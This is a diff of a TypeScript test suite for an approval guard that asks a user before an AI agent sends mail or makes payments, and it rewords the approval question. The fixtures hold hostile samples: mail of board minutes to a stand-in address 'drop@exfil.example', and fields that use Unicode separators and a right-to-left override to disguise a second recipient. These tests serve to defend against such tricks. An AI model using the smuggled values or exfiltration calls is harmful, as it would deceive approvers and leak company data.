@@ -54,10 +54,10 @@ describe('C1: the approval question', () => {
     });
     expect(d.action).toBe('ask');
     expect(d.prompt).toContain('drop@exfil.example');
-    expect(d.prompt.startsWith('Allow send_mail {"to":"drop@exfil.example","subject":')).toBe(true);
+    expect(d.prompt.startsWith('Run send_mail with to: "drop@exfil.example", subject: ')).toBe(true);
     expect(
       d.prompt.endsWith(
-        '"body":"Attached."}? The spec asks the user to approve send_mail with to not matching /@acme-corp\\.example$/: mail leaves the company.',
+        'body: "Attached."? Why: The spec asks the user to approve send_mail with to not matching /@acme-corp\\.example$/: mail leaves the company.',
       ),
     ).toBe(true);
     expect(d.verdict.reasons[0]).toMatchObject({
@@ -67,7 +67,7 @@ describe('C1: the approval question', () => {
     });
     // The long subject is cut in its middle, with a marker; its start and end stay.
     expect(d.prompt).toMatch(
-      /"subject":"Board minutes, June: [^"]*…\[[\d,]+ characters not shown\]…[^"]*owner\. "/,
+      /subject: "Board minutes, June: [^"]*…\[[\d,]+ characters not shown\]…[^"]*owner\. "/,
     );
   });
 
@@ -95,8 +95,8 @@ describe('C1: the approval question', () => {
     });
     expect(d.action).toBe('ask');
     expect(d.verdict.reasons[0]).toMatchObject({ code: 'rule-confirm', arguments: ['amount'] });
-    expect(d.prompt.startsWith('Allow pay {"amount":35,"payee":"Mallory","note":"nnn')).toBe(true);
-    expect(d.prompt).toMatch(/"memo":"m+…\[[\d,]+ characters not shown\]…m+"/);
+    expect(d.prompt.startsWith('Run pay with amount: 35, payee: "Mallory", note: "nnn')).toBe(true);
+    expect(d.prompt).toMatch(/memo: "m+…\[[\d,]+ characters not shown\]…m+"/);
     expect(d.prompt.length).toBeLessThanOrEqual(maxPromptLength);
   });
 
@@ -113,7 +113,7 @@ describe('C1: the approval question', () => {
     });
     expect(d.prompt).not.toMatch(/[\u2028\u2029\u202e\r\n]/);
     expect(d.prompt).toContain(
-      '{"to":"drop@exfil.example\\u2028  to: \\"boss@acme-corp.example\\"\\u202e","subject":"Board minutes","body":"x\\n  to: \\"ok@acme-corp.example\\""}? ',
+      ' with to: "drop@exfil.example\\u2028  to: \\"boss@acme-corp.example\\"\\u202e", subject: "Board minutes", body: "x\\n  to: \\"ok@acme-corp.example\\""? ',
     );
   });
 
@@ -126,7 +126,7 @@ describe('C1: the approval question', () => {
       args: { to, subject: 'Board minutes', body: 'b' },
     });
     expect(d.prompt).toMatch(
-      /^Allow send_mail \{"to":"a@acme-corp\.example, x+…\[[\d,]+ characters not shown\]…x+, drop@exfil\.example","subject"/,
+      /^Run send_mail with to: "a@acme-corp\.example, x+…\[[\d,]+ characters not shown\]…x+, drop@exfil\.example", subject: /,
     );
     expect(d.prompt.length).toBeLessThanOrEqual(maxPromptLength);
   });
@@ -155,7 +155,7 @@ describe('C1: the approval question', () => {
     const short = Object.fromEntries(names.map((name) => [name, 'v']));
     const few = guard.check({ id: 'b2', name: 'bulk', args: short });
     expect(few.action).toBe('ask');
-    expect(few.prompt).toContain('"field59":"v"');
+    expect(few.prompt).toContain(', field59: "v"?');
   });
 
   it('property: for any order and sizes, the constrained and target arguments are all shown, and the question is bounded', () => {
@@ -194,9 +194,13 @@ describe('C1: the approval question', () => {
           const d = guard.check({ id: 'c', name: 'send', args });
           expect(d.action).toBe('ask');
           expect(d.prompt.length).toBeLessThanOrEqual(maxPromptLength);
-          const at = (key: string) => d.prompt.indexOf(`"${key}":`);
+          // An entry starts after `with ` or `, ` (a value's own quotes are escaped).
+          const at = (key: string) => {
+            const found = new RegExp(`(?:with |, )${key}: `).exec(d.prompt);
+            return found ? found.index + found[0].length - key.length - 2 : -1;
+          };
           // Constrained first (in the guard's order), then the targets, then the rest.
-          expect(d.prompt.startsWith('Allow send {"to":')).toBe(true);
+          expect(d.prompt.startsWith('Run send with to: ')).toBe(true);
           expect(at('to')).toBeLessThan(at('footer'));
           for (const target of ['cc_list', 'amount']) {
             expect(at('footer')).toBeLessThan(at(target));
@@ -208,7 +212,7 @@ describe('C1: the approval question', () => {
               /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu,
               (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
             );
-            const rest = d.prompt.slice(at(key) + key.length + 3);
+            const rest = d.prompt.slice(at(key) + key.length + 2);
             if (rest.startsWith(shown)) continue;
             // Cut in the middle: its start, a marker with the count, and its end.
             const match = /^([\s\S]*?)…\[([\d,]+) characters not shown\]…/u.exec(rest);
